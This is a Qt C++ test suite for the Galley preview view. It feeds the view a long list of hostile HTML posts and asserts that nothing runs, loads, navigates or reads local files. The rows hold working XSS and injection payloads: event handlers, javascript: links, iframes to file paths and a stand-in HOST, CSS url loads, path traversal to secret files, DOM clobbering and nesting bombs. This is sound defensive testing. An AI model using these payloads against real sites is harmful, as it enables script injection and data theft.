// Copyright (C) 2026 The Galley authors
// SPDX-License-Identifier: MIT

#include "previewfixture.h"

#include "preview/images/imagestore.h"
#include "preview/view/backend.h"
#include "preview/view/page.h"
#include "preview/view/scheme.h"

#include <QApplication>
#include <QDir>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

using namespace galley;
using view::PreviewView;

namespace {

// What no post may bring about. Each is asked in the page and must be true.
const char *const invariants[] = {
    "document.title === 'Preview'",
    "location.href === 'galley-page:/shell.html'",
    "document.body.children.length === 1 && document.body.firstElementChild === galley.blocks.container",
    "document.head.children.length <= 9",
    "document.querySelectorAll('[id=galley-post]').length === 1",
    "!document.querySelector('main main')",
    "frames.length === 0",
    // elements and attributes
    "!galley.blocks.container.querySelector('script, style, link, meta, base, iframe, frame, object, embed, applet, "
    "form,"
    " select, textarea, button, template, noscript, portal, canvas, map, source, track, foreignObject, animate, set,"
    " input:not([type=checkbox]), image, title:not(svg title)')",
    "Array.from(galley.blocks.container.querySelectorAll('*')).every(e => Array.from(e.attributes).every(a =>"
    " !/^on|^(srcdoc|srcset|action|formaction|ping|target|download|background|poster|data|autofocus|autoplay|tabindex|"
    "contenteditable|accesskey|popover|is|slot|part|nonce|usemap|ismap|manifest|style-src)$/i.test(a.name)"
    " || a.name === 'tabindex' && e.className.includes('galley-image')))",
    "Array.from(galley.blocks.container.querySelectorAll('[src]')).every(e => /^galley-page:\\/(media|film)\\//"
    ".test(e.getAttribute('src')))",
    "Array.from(galley.blocks.container.querySelectorAll('[id]')).every(e => e.id.startsWith('post-'))",
    "Array.from(galley.blocks.container.querySelectorAll('[name]')).every(e => e.localName === 'a'"
    " && e.getAttribute('name').startsWith('post-'))",
    // style: nothing leaves the flow, nothing loads
    "Array.from(galley.blocks.container.querySelectorAll('*')).every(e => getComputedStyle(e).position === 'static'"
    " || e.closest('.galley-current, .katex, .galley-math'))",
    "Array.from(galley.blocks.container.querySelectorAll('*')).every(e => { const s = getComputedStyle(e); return"
    " s.backgroundImage === 'none' && s.zIndex === 'auto' && s.transform === 'none' && s.animationName === 'none'"
    " && !/url/.test(s.cursor + s.content + s.listStyleImage + s.borderImageSource + s.filter + s.mask) })",
    "Array.from(galley.blocks.container.querySelectorAll('*')).every(e => parseFloat(getComputedStyle(e).marginTop) >= "
    "0"
    " && parseFloat(getComputedStyle(e).marginLeft) >= 0)",
    "document.documentElement.scrollWidth <= innerWidth + 1",
    // our own marks cannot be forged
    "!galley.blocks.container.querySelector('.galley-forged, [data-line], [data-line-1]')",
    "document.querySelectorAll('.galley-block').length === galley.blocks.list.length",
};

void row(const char *name, const QByteArray &html)
{
    QTest::newRow(name) << html;
}

} // namespace

/// Posts that try to run something, to leave the page, to load, to read files, or to pass themselves off as the shell.
/// HOST in a row becomes the address of a server that must never be spoken to, SECRET the path of a file outside the
/// site.
class TestHostilePosts final : public QObject
{
    Q_OBJECT

    QTemporaryDir folder;
    QTcpServer server;
    int connections = 0;
    std::unique_ptr<images::ImageStore> store;
    std::unique_ptr<PreviewFixture> preview;

    QByteArray filled(QByteArray html) const
    {
        html.replace("HOST", "127.0.0.1:" + QByteArray::number(server.serverPort()));
        html.replace("SECRET", QFile::encodeName(folder.filePath(QStringLiteral("secret.txt"))));
        return html;
    }

    void checkInvariants()
    {
        QString first = QStringLiteral("''");
        for (auto it = std::rbegin(invariants); it != std::rend(invariants); ++it)
            first = QStringLiteral("!(%1) ? `%1` : %2").arg(QString::fromUtf8(*it), first);
        const QString broken = preview->ask(first).toString();
        if (!broken.isEmpty())
            QFAIL(qPrintable(broken + u'\n' + preview->html().left(2000)));
        QVERIFY2(!preview->html().contains(QStringLiteral("4711-secret")), "a file's text is in the page");
        QCOMPARE(connections, 0);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(server.listen(QHostAddress::LocalHost));
        connect(&server, &QTcpServer::newConnection, this, [this] { ++connections; });
        QVERIFY(QDir(folder.path()).mkdir(QStringLiteral("site")));
        QFile secret(folder.filePath(QStringLiteral("secret.txt")));
        QVERIFY(secret.open(QIODevice::WriteOnly));
        secret.write("4711-secret");
        secret.close();
        store = std::make_unique<images::ImageStore>(images::ImageStore::Options{{}, true, {}, {}});
        preview = std::make_unique<PreviewFixture>();
        preview->view().setImageStore(store.get());
        const QString site = folder.filePath(QStringLiteral("site"));
        preview->view().setImageResolver([site](const QString &url) {
            // As a site would, and more credulous than ours: whatever has no scheme is a path.
            if (url.contains(u':'))
                return images::Source::url(url);
            return images::Source::file(site + u'/' + url, site);
        });
    }
    void cleanupTestCase()
    {
        preview.reset();
        store.reset();
    }

    void post_thatIsHostile_doesNothing_data()
    {
        QTest::addColumn<QByteArray>("html");
        // scripts
        row("script", "<script>document.title = 'pwned'</script><p>a</p>");
        row("script from a server", "<script src=\"http://HOST/a.js\"></script><p>a</p>");
        row("script, odd case", "<ScRiPt/x>document.title = 'pwned'</sCrIpT><p>a</p>");
        row("script in svg", "<svg><script>document.title = 'pwned'</script></svg>");
        row("script in svg, xlink", "<svg><script xlink:href=\"http://HOST/a.js\"/></svg>");
        row("script in math", "<math><mtext><script>document.title = 'pwned'</script></mtext></math>");
        row("module preload", "<link rel=\"modulepreload\" href=\"http://HOST/m.js\"><p>a</p>");
        row("nested script after cleaning", "<scr<script>ipt>document.title='pwned'</scr</script>ipt>");
        row("noscript breaks out",
            "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\">a</p>");
        row("template", "<template><script>document.title='pwned'</script><img src=\"http://HOST/t.png\"></template>");
        row("declarative shadow root",
            "<div><template shadowroot=\"open\"><style>*{position:fixed}</style></template></div>");
        // handlers
        row("img onerror", "<img src=\"x\" onerror=\"document.title = 'pwned'\">");
        row("img onload", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=\"document.title='pwned'\">");
        row("svg onload",
            "<svg onload=\"document.title = 'pwned'\"><circle r=\"4\" onclick=\"document.title='pwned'\"/></svg>");
        row("onclick", "<p onclick=\"document.title = 'pwned'\">click</p>");
        row("onmouseover",
            "<p onmouseover=\"document.title='pwned'\" OnMouseEnter=\"document.title='pwned'\">hover</p>");
        row("ontoggle", "<details open ontoggle=\"document.title = 'pwned'\"><summary>a</summary>b</details>");
        row("onfocus autofocus", "<a href=\"#\" autofocus onfocus=\"document.title='pwned'\">a</a>");
        row("onanimationstart", "<p style=\"animation: x 1s\" onanimationstart=\"document.title='pwned'\">a</p>");
        row("video onerror",
            "<video src=\"x\" onerror=\"document.title='pwned'\"><source onerror=\"document.title='pwned'\"></video>");
        row("svg animate href",
            "<svg><a><animate attributeName=\"href\" values=\"javascript:document.title='pwned'\"/>"
            "<text x=\"20\" y=\"20\">click</text></a></svg>");
        row("svg set",
            "<svg><rect width=\"9\" height=\"9\"><set attributeName=\"onclick\" "
            "to=\"document.title='pwned'\"/></rect></svg>");
        row("foreignObject",
            "<svg><foreignObject><p onclick=\"document.title='pwned'\">a</p><iframe "
            "src=\"http://HOST/\"></iframe></foreignObject></svg>");
        // links that run
        row("javascript: link", "<a href=\"javascript:document.title='pwned'\">click</a>");
        row("javascript: link, disguised", "<a href=\" jAva&#9;scr&#10;ipt:document.title='pwned'\">click</a>");
        row("data: html link", "<a href=\"data:text/html,<script>document.title='pwned'</script>\">click</a>");
        row("vbscript: link", "<a href=\"vbscript:x\">click</a>");
        row("file: link", "<a href=\"file:///etc/passwd\">click</a>");
        row("shell link", "<a href=\"galley-page:/shell.html\">click</a>");
        row("chrome: link", "<a href=\"chrome://crash\">click</a>");
        row("view-source link", "<a href=\"view-source:file:///etc/passwd\">click</a>");
        row("target blank", "<a href=\"http://HOST/\" target=\"_blank\" rel=\"opener\">click</a>");
        row("ping", "<a href=\"mailto:a@example.org\" ping=\"http://HOST/ping\">click</a>");
        row("download", "<a href=\"http://HOST/x.exe\" download>click</a>");
        row("image map",
            "<img src=\"x\" usemap=\"#m\"><map name=\"m\"><area href=\"http://HOST/\" shape=\"default\"></map>");
        row("svg link", "<svg><a xlink:href=\"http://HOST/\"><text x=\"20\" y=\"20\">click</text></a></svg>");
        row("math link", "<math><mi href=\"http://HOST/\" xlink:href=\"javascript:x\">click</mi></math>");
        // frames and plug-ins
        row("iframe http", "<iframe src=\"http://HOST/\"></iframe>");
        row("iframe file", "<iframe src=\"file://SECRET\"></iframe>");
        row("iframe srcdoc", "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>");
        row("iframe javascript:", "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>");
        row("iframe of the shell", "<iframe src=\"galley-page:/shell.html\"></iframe>");
        row("frameset", "<frameset><frame src=\"file://SECRET\"></frameset>");
        row("object", "<object data=\"file://SECRET\" type=\"text/plain\"></object>");
        row("object html", "<object data=\"data:text/html,<script>parent.document.title='pwned'</script>\"></object>");
        row("embed", "<embed src=\"http://HOST/a.swf\">");
        row("applet", "<applet code=\"http://HOST/a.class\"></applet>");
        row("portal", "<portal src=\"http://HOST/\"></portal>");
        // the document
        row("meta refresh", "<meta http-equiv=\"refresh\" content=\"0; url=http://HOST/\"><p>a</p>");
        row("meta policy",
            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\"><img src=\"http://HOST/a.png\">");
        row("base", "<base href=\"http://HOST/\"><a href=\"x\">a</a><img src=\"x.png\">");
        row("base in svg", "<svg xml:base=\"http://HOST/\"><use href=\"x.svg#a\"/></svg>");
        row("link prefetch",
            "<link rel=\"prefetch\" href=\"http://HOST/\"><link rel=\"dns-prefetch\" href=\"//HOST\"><p>a</p>");
        row("link stylesheet", "<link rel=\"stylesheet\" href=\"http://HOST/a.css\"><p>a</p>");
        row("title", "<title>pwned</title><p>a</p>");
        row("head and body",
            "</main></body></html><body onload=\"document.title='pwned'\" background=\"http://HOST/b.png\"><p>a</p>");
        row("closes our elements", "</div></div></main><main id=\"galley-post\">a</main>");
        row("html attributes", "<html data-galley-theme=\"x\" manifest=\"http://HOST/m\"><p>a</p>");
        // forms
        row("form",
            "<form action=\"http://HOST/\"><input name=\"a\" value=\"b\" autofocus><button>click</button></form>");
        row("formaction", "<button formaction=\"javascript:document.title='pwned'\">click</button>");
        row("image input", "<input type=\"image\" src=\"http://HOST/i.png\" formaction=\"http://HOST/\">");
        row("password", "<p>Password: <input type=\"password\"></p>");
        row("form clobbers",
            "<input type=checkbox form=f name=firstChild><form id=f><input name=attributes>"
            "<input name=parentNode><input name=remove></form>");
        row("isindex", "<isindex action=\"http://HOST/\" prompt=\"a\">");
        // style
        row("style element", "<style>body { display: none } @import 'http://HOST/a.css';</style><p>a</p>");
        row("style in svg", "<svg><style>* { position: fixed; background: url(http://HOST/a.png) }</style></svg>");
        row("position fixed", "<div style=\"position: fixed; inset: 0; background: white\">cover</div>");
        row("position absolute",
            "<div style=\"position:absolute;top:0;left:0;width:9999px;height:9999px\">cover</div>");
        row("position, escaped", "<div style=\"p\\6fsition: fixed; top: 0\">cover</div>");
        row("position, important", "<div style=\"position: sticky !important; top: 0\">cover</div>");
        row("huge margin", "<div style=\"margin: -5000px; width: 99999px; transform: scale(99)\">cover</div>");
        row("window units", "<div style=\"width: 100vw; height: 100vh; margin-left: calc(-50vw)\">cover</div>");
        row("huge font", "<p style=\"font-size: 3000px\">A</p>");
        row("wide text", "<p>" + QByteArray(5000, 'W') + "</p>");
        row("css url",
            "<p style=\"background: url(http://HOST/a.png); list-style-image: url('http://HOST/b.png'); cursor: "
            "url(http://HOST/c)\">a</p>");
        row("css image-set",
            "<p style=\"background-image: -webkit-image-set(url(http://HOST/a.png) 1x); border-image: "
            "url(http://HOST/b)\">a</p>");
        row("css variable",
            "<p style=\"--x: url(http://HOST/a.png); background: var(--x); content: attr(title)\">a</p>");
        row("z-index",
            "<p style=\"z-index: 99999; opacity: 0.5; filter: blur(9px); mix-blend-mode: difference\">a</p>");
        row("expression",
            "<p style=\"width: expression(document.title='pwned'); behavior: url(#x); -moz-binding: "
            "url(http://HOST/)\">a</p>");
        row("fill url",
            "<svg width=\"9\" height=\"9\"><rect width=\"9\" height=\"9\" fill=\"url(http://HOST/a.svg#x)\" "
            "filter=\"url(http://HOST/f.svg#x)\"/></svg>");
        // pictures, sounds, films
        row("img http on this computer", "<img src=\"http://HOST/a.png\" alt=\"a\">");
        row("img file", "<img src=\"file://SECRET\">");
        row("img ../", "<img src=\"../secret.txt\"><img src=\"/../../secret.txt\"><img src=\"..%2fsecret.txt\">");
        row("img of the shell", "<img src=\"galley-page:/media/1\"><img src=\"galley-page:/shell.html\">");
        row("img srcset", "<img src=\"x\" srcset=\"http://HOST/a.png 1x, http://HOST/b.png 2x\" sizes=\"100vw\">");
        row("picture",
            "<picture><source srcset=\"http://HOST/a.webp\"><img src=\"x\" lowsrc=\"http://HOST/l\" "
            "dynsrc=\"http://HOST/d\"></picture>");
        row("svg image", "<svg><image href=\"http://HOST/a.png\" xlink:href=\"file://SECRET\"/></svg>");
        row("svg use", "<svg><use href=\"http://HOST/a.svg#x\"/><use xlink:href=\"data:image/svg+xml,x#x\"/></svg>");
        row("video", "<video src=\"http://HOST/a.mp4\" poster=\"http://HOST/p.png\" autoplay></video>");
        row("audio",
            "<audio autoplay src=\"http://HOST/a.mp3\"><source src=\"file://SECRET\"><track "
            "src=\"http://HOST/t.vtt\"></audio>");
        row("film ../", "<video src=\"../secret.txt\"></video><audio src=\"../../../../etc/passwd\"></audio>");
        row("table background",
            "<table background=\"http://HOST/a.png\"><tr><td background=\"http://HOST/b.png\">a</td></tr></table>");
        row("data svg with script",
            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
            "onload='parent.document.title=1'/>\">");
        // names
        row("ids of the shell", "<p id=\"galley-post\">a</p><p id=\"post-galley-post\">b</p>");
        row("names of the document",
            "<img name=\"body\"><img name=\"createElement\" id=\"head\"><a name=\"title\">a</a><p id=\"frames\">a</p>");
        row("names of our world",
            "<a id=\"galley\" name=\"galley\">a</a><img name=\"qt\"><p id=\"QWebChannel\">a</p><p id=\"hljs\">a</p><p "
            "id=\"katex\">b</p>");
        row("classes of the shell",
            "<p class=\"galley-forged galley-block galley-section galley-current galley-image x\">a</p>");
        row("forged states",
            "<p data-galley-state=\"ask\" class=\"galley-image\" data-line=\"5\" data-line-1=\"5\">a</p>");
        row("custom element", "<galley-block onclick=\"document.title='pwned'\" is=\"x\">a</galley-block>");
        row("slot and part", "<slot name=\"x\">a</slot><p part=\"y\" slot=\"z\" exportparts=\"a\">b</p>");
        // formulas and code
        row("math that links", "<p>$$\\href{javascript:document.title='pwned'}{click} \\url{http://HOST/}$$</p>");
        row("math with style", "<p>\\(\\htmlStyle{position:fixed}{x} \\includegraphics{http://HOST/a.png}\\)</p>");
        row("math that explodes",
            "<p>$$\\def\\a{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c\\c\\c\\c\\c}\\def\\c{"
            "\\d\\d\\d\\d\\d\\d\\d\\d}"
            "\\def\\d{xxxxxxxx}\\a\\a\\a\\a\\a\\a$$</p>");
        row("math, huge rule", "<p>$$\\rule{99999em}{99999em}$$</p>");
        row("code with markup",
            "<pre><code class=\"language-html\">&lt;img src=x onerror=document.title='pwned'&gt;</code></pre>");
        row("code language",
            "<pre><code class=\"language-__proto__\">a</code></pre><pre><code "
            "class=\"language-constructor\">a</code></pre>");
        row("liquid with markup", "<p>{% raw %}&lt;img src=x onerror=document.title='pwned'&gt;{% endraw %}</p>");
        // size
        row("deep nesting", QByteArray("<div>").repeated(50000));
        row("deep nesting of quotes", QByteArray("<blockquote><p>").repeated(3000) + "a");
        row("deep svg", "<svg>" + QByteArray("<g>").repeated(20000));
        row("many attributes", "<p " + QByteArray("a b c ").repeated(20000) + ">a</p>");
        row("long attribute",
            "<p title=\"" + QByteArray(2000000, 'x') + "\" style=\"" + QByteArray("color:red;").repeated(20000)
                + "\">a</p>");
        row("long text", "<p>" + QByteArray("\xED\x95\x9C\xEA\xB8\x80 ").repeated(150000) + "</p>");
        row("many images", QByteArray("<img src=\"x.png\" alt=\"a\">").repeated(2000));
        row("unclosed", "<p><em><strong><a href=\"#\"><table><tr><td><ul><li>");
        row("NUL and surrogates", QByteArray("<p>a\0b&#0;&#xD800;\xED\xA0\x80</p>", 26));
    }
    void post_thatIsHostile_doesNothing()
    {
        QFETCH(QByteArray, html);
        auto *page = qobject_cast<view::Page *>(preview->page());
        QSignalSpy refused(page, &view::Page::navigationRefused);
        QList<QUrl> opened;
        const auto opening = connect(&preview->view(), &PreviewView::linkActivated, this,
                                     [&opened](const QUrl &url) { opened.append(url); });
        QVERIFY(preview->show({"<p>before</p>", filled(html), "<p>after</p>"}));
        checkInvariants();
        // A reader who clicks on it, in vain or for a link of a kind that is let through.
        if (preview
                ->ask(QStringLiteral(
                    "(() => { const e = galley.blocks.list[1].node.querySelector('a, svg text, p, summary, input');"
                    "if (e) e.setAttribute('data-clicked', ''); return e && e.getClientRects().length > 0; })()"))
                .toBool()) {
            (void)preview->ask(
                QStringLiteral("document.querySelector('[data-clicked]').scrollIntoView({block: 'center'})"));
            preview->click(QStringLiteral("[data-clicked]"));
        }
        checkInvariants();
        disconnect(opening);
        for (const QUrl &url : opened)
            QVERIFY2(url.scheme() == QLatin1String("http") || url.scheme() == QLatin1String("https")
                         || url.scheme() == QLatin1String("mailto"),
                     url.toEncoded());
        QCOMPARE(refused.count(), 0); // the filter comes first; the refusal is the wall behind it
    }

    void page_withManyThousandBlocks_showsThem()
    {
        QByteArrayList blocks;
        for (int i = 0; i < 20000; ++i)
            blocks.append("<p>block</p>");
        QVERIFY(preview->show(blocks));
        QCOMPARE(preview->ask(QStringLiteral("document.querySelectorAll('.galley-block').length")).toInt(), 20000);
        QVERIFY(preview->show({"<p>few</p>"}));
    }

    void page_thatWentToABlankOne_comesBackWithThePost()
    {
        QVERIFY(preview->show({"<p>still here</p>"}));
        QSignalSpy loaded(&preview->view(), &PreviewView::loaded);
        QSignalSpy painted(&preview->view(), &PreviewView::painted);
        (void)preview->ask(QStringLiteral("location.assign('about:blank')"));
        QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty() && !painted.isEmpty(), 20000);
        QVERIFY(preview->html().contains(QStringLiteral("still here")));
    }

    void navigation_fromWithin_isRefused_data()
    {
        QTest::addColumn<QString>("url");
        for (const char *url : {"http://127.0.0.1/", "file:///etc/passwd", "data:text/html,a", "qrc:/",
                                "galley-page:/style/page.css", "chrome://version/", "javascript:1"})
            QTest::newRow(url) << QString::fromLatin1(url);
    }
    void navigation_fromWithin_isRefused()
    {
        QFETCH(QString, url);
        // As if the filter had let it through.
        (void)preview->ask(
            QStringLiteral("(() => { const a = document.createElement('a'); a.href = '%1';"
                           "document.body.append(a); a.click(); a.remove();"
                           "const f = document.createElement('iframe'); f.src = '%1'; document.body.append(f);"
                           "location.assign('%1'); })()")
                .arg(url));
        (void)preview->ask(QStringLiteral("document.querySelectorAll('iframe').forEach(f => f.remove())"));
        QCOMPARE(preview->ask(QStringLiteral("location.href")).toString(), QStringLiteral("galley-page:/shell.html"));
        QCOMPARE(connections, 0);
    }
};

int main(int argc, char **argv)
{
    view::registerScheme();
    QApplication application(argc, argv);
    view::chooseQuickBackend();
    view::leaveOutSpareProcess();
    TestHostilePosts test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_hostileposts.moc"
